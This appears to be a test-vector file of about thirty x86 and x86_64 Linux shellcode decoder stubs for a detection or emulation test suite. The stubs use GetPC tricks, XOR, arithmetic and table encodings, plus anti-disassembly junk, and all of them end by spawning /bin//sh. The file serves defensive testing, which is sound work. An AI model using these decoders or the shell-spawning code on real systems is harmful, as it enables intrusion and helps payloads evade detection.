; Decoders written in other ways than tests/shellcode/encoder.c and tests/vectors/decoder_*.asm do: how they find what
; they decode, where they put it, when they end, what they do to it.

;= jump_call_compare 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	lea edi, [esi + LENGTH]
next:	xor byte [esi], 0x5a
	inc esi
	cmp esi, edi
	jb next
	jmp payload
down:	call up
payload: ENCODE c ^ 0x5a

;= jumps_between 32 | linux x86 | execute /bin//sh
	jmp short two
one:	jmp short three
	db 'junk'
two:	call one_pops
payload: ENCODE c ^ 0x33
one_pops: pop ebx
	jmp short one
three:	push byte LENGTH
	pop ecx
next:	dec ecx
	xor byte [ebx + ecx], 0x33
	test ecx, ecx
	jnz next
	jmp ebx

;= call_backwards_keeps_nothing 32 | linux x86 | execute /bin//sh
	jmp short start
find:	pop edi
	push edi
	ret
start:	call find
here:	push edi
	pop esi
	add esi, byte payload - here
	xor ecx, ecx
	mov cl, LENGTH / 4
next:	lodsd
	xor eax, 0x1badb002
	mov [esi - 4], eax
	loop next
payload: DOUBLES c ^ 0x1badb002

;= keys_behind 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	add esi, payload - here
	lea ebx, [esi + LENGTH]
	xor ecx, ecx
	xor edx, edx
next:	mov al, [ebx + edx]
	xor [esi + ecx], al
	inc edx
	cmp dl, 5
	jne same
	xor edx, edx
same:	inc ecx
	cmp ecx, LENGTH
	jne next
payload: ENCODE c ^ (0x11 + (i % 5) * 0x25)
	db 0x11, 0x36, 0x5b, 0x80, 0xa5

;= insertion 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	lea edi, [esi + 1]
	xor eax, eax
	mov al, 1
	xor ebx, ebx
next:	mov bl, [esi + eax]
	xor bl, 0xaa
	jnz payload
	mov bl, [esi + eax + 1]
	mov [edi], bl
	inc edi
	add al, 2
	jmp next
down:	call up
payload: INSERTED
	db 0xbb, 0xbb

;= swapped_pairs 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	lea esi, [esi + payload - here]
	mov edi, esi
	push byte LENGTH / 2
	pop ecx
next:	lodsw
	xchg al, ah
	stosw
	loop next
payload: WORDS (c << 8) | (c >> 8)

;= sum_with_wrap 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	xor ecx, ecx
	mov cl, LENGTH
next:	cmp byte [esi], 13
	jb wraps
	sub byte [esi], 13
	jmp short done
wraps:	xor edx, edx
	mov dl, 13
	sub dl, [esi]
	xor ebx, ebx
	mov bl, 0xff
	inc bx
	sub bx, dx
	mov [esi], bl
done:	inc esi
	loop next
	jmp short payload
down:	call up
payload: ENCODE c + 13

;= three_steps_a_byte 32 | linux x86 | execute /bin//sh
start:	fldz
	fnstenv [esp - 12]
	pop ecx
	add ecx, byte payload - start
	push byte LENGTH
	pop edx
next:	not byte [ecx]
	xor byte [ecx], 0x77
	add byte [ecx], 3
	inc ecx
	dec edx
	jnz next
payload: ENCODE ~((c - 3) ^ 0x77)

;= fnstenv_28 32 | linux x86 | execute /bin//sh
start:	fldpi
	nop
	fnstenv [esp - 28]
	mov ebx, [esp - 16]
	add ebx, byte payload - start
	xor ecx, ecx
	mov cl, LENGTH
next:	xor byte [ebx + ecx - 1], 0xe5
	loop next
payload: ENCODE c ^ 0xe5

;= fnstenv_4 32 | linux x86 | execute /bin//sh
start:	fld1
	fnstenv [esp - 4]
	mov ebx, [esp + 8]
	add ebx, byte payload - start
	push byte LENGTH
	pop ecx
next:	sub byte [ebx + ecx - 1], 0x1d
	loop next
payload: ENCODE c + 0x1d

;= fnstenv_frame 32 | linux x86 | execute /bin//sh
start:	fldl2e
	push esp
	pop ebp
	fnstenv [ebp - 0x40]
	mov ebx, [ebp - 0x40 + 12]
	push byte LENGTH
	pop ecx
next:	sub byte [ebx + ecx + payload - start - 1], 0x17
	dec ecx
	jne next
	jmp short payload
	db 'text'
payload: ENCODE c + 0x17

;= fnstenv_pops_feedback 32 | linux x86 | execute /bin//sh
	mov edi, 0xcafebabe
start:	fcmovb st0, st1
	sub esp, byte 28
	fnstenv [esp]
	pop eax
	pop eax
	pop eax
	pop esi
	xor ecx, ecx
	mov cl, LENGTH / 4
next:	xor [esi + payload - start], edi
	add edi, [esi + payload - start]
	add esi, byte 4
	loop next
%assign key 0xcafebabe
payload: FEEDBACK

;= words_counted_up 32 | linux x86 | execute /bin//sh
	call here
here:	pop eax
	add eax, byte payload - here
	xor ecx, ecx
next:	add word [eax + ecx * 2], 0x4142
	inc ecx
	cmp cl, LENGTH / 2
	jnz next
	call eax
payload: WORDS c - 0x4142

;= onto_the_stack 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	sub esp, byte 0x7f
	mov edi, esp
	push byte LENGTH
	pop ecx
next:	lodsb
	rol al, 3
	stosb
	loop next
	jmp esp
down:	call up
	ENCODE (c >> 3) | (c << 5)

;= onto_the_heap 32 | linux x86 | execute /bin//sh
	xor ebx, ebx
	push byte 45
	pop eax
	int 80h
	mov edi, eax
	lea ebx, [eax + 0x1000]
	push byte 45
	pop eax
	int 80h
	push edi
	call up
	ENCODE c ^ 0x21
up:	pop esi
	push byte LENGTH
	pop ecx
next:	lodsb
	xor al, 0x21
	stosb
	loop next
	ret

;= sums_pushed 32 | linux x86 | execute /bin//sh
	PUSHED
	jmp esp

;= through_the_stack_pointer 32 | linux x86 | execute /bin//sh
	call here
here:	pop ebp
	mov eax, esp
	lea esp, [ebp + payload - here]
	xor ecx, ecx
	mov cl, LENGTH / 4
next:	pop edx
	xor edx, 0x12345678
	push edx
	pop edx
	loop next
	mov esp, eax
payload: DOUBLES c ^ 0x12345678

;= tries_every_key 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	xor eax, eax
guess:	inc al
	mov dl, [esi]
	xor dl, al
	cmp dl, 0x31
	jne guess
	mov dl, [esi + 1]
	xor dl, al
	cmp dl, 0xc0
	jne guess
	push byte LENGTH
	pop ecx
	mov edi, esi
next:	xor [edi], al
	inc edi
	loop next
	jmp esi
down:	call up
	ENCODE c ^ 0x6b

;= each_by_the_one_before 32 | linux x86 | execute /bin//sh
	jmp down
up:	pop esi
	mov al, 0x42
	xor ecx, ecx
next:	xor al, [esi + ecx]
	mov [esi + ecx], al
	inc ecx
	cmp cl, LENGTH
	jc next
	jmp esi
down:	call up
%assign key 0x42
	CHAINED

;= turned_around 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	lea esi, [esi + payload - here]
	mov edi, esi
	mov ecx, LENGTH / 4
	cld
next:	lodsd
	bswap eax
	neg eax
	stosd
	dec ecx
	jnz next
payload: DOUBLES SWAPPED(-c)

;= key_from_a_generator 32 | linux x86 | execute /bin//sh
	call here
here:	pop edi
	add edi, byte payload - here
	push byte 7
	pop eax
	push byte LENGTH
	pop ecx
next:	imul eax, eax, 0x41c64e6d
	add eax, 12345
	mov edx, eax
	shr edx, 16
	xor [edi], dl
	inc edi
	loop next
%assign key 7
payload: GENERATED

;= half_bytes_as_letters 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	mov edi, esi
	push byte LENGTH
	pop ecx
next:	lodsb
	sub al, 'A'
	shl al, 4
	mov ah, al
	lodsb
	sub al, 'A'
	or al, ah
	stosb
	loop next
	jmp short payload
down:	call up
payload: HALVES

;= table_of_bytes 32 | linux x86 | execute /bin//sh
	jmp down
up:	pop esi
	lea ebx, [esi + LENGTH]
	mov edi, esi
	push byte LENGTH
	pop ecx
next:	lodsb
	xlatb
	stosb
	loop next
	jmp payload
down:	call up
payload: ENCODE (c * 0x35) + 0x67
%assign entry 0
%rep 256
	db ((entry - 0x67) * 0x1d) & 0xff
%assign entry entry + 1
%endrep

;= jumps_to_what_follows 32 | linux x86 | execute /bin//sh
	xor eax, eax
	jmp short $ + 2
	push eax
	push dword '//sh'
	jmp short $ + 2
	push dword '/bin'
	mov ebx, esp
	xor ecx, ecx
	cdq
	mov al, 11
	int 80h

;= jumps_over_garbage 32 | linux x86 | execute /bin//sh
	jmp short $ + 4
	db 0xe8, 0x11
	xor eax, eax
	jmp short $ + 3
	db 0xb8
	push eax
	nop
	jz $ + 4
	jnz $ + 2
	push dword '//sh'
	clc
	jnc $ + 3
	db 0xe9
	push dword '/bin'
	lea ebx, [esp]
	xor ecx, ecx
	cdq
	mov al, 11
	int 80h

;= wide_lea 64 | linux x86_64 | execute /bin//sh
	lea rsi, [rel payload]
	push byte LENGTH64 / 8
	pop rcx
	mov rax, 0x1122334455667788
next:	xor [rsi + rcx * 8 - 8], rax
	loop next
	jmp rsi
payload: QUADS c ^ 0x1122334455667788

;= wide_call 64 | linux x86_64 | execute /bin//sh
	jmp down
up:	pop rdi
	xor ecx, ecx
	add cl, LENGTH64
next:	not byte [rdi]
	inc rdi
	loop next
	jmp payload
down:	call up
payload: ENCODE64 ~c

;= wide_before 64 | linux x86_64 | execute /bin//sh
	jmp start
payload: ENCODE64 c ^ 0x55
start:	lea r8, [rel payload]
	xor r9d, r9d
next:	xor byte [r8 + r9], 0x55
	inc r9d
	cmp r9d, LENGTH64
	jl next
	call r8

;= wide_sums_pushed 64 | linux x86_64 | execute /bin//sh
	PUSHED64
	jmp rsp

;= wide_fnstenv 64 | linux x86_64 | execute /bin//sh
	fld1
	fnstenv [rsp - 0x20]
	mov ebx, [rsp - 0x14]
	lea rbx, [rel payload]
	mov ecx, LENGTH64
next:	dec ecx
	sub byte [rbx + rcx], 0x11
	jecxz payload
	jmp next
payload: ENCODE64 c + 0x11
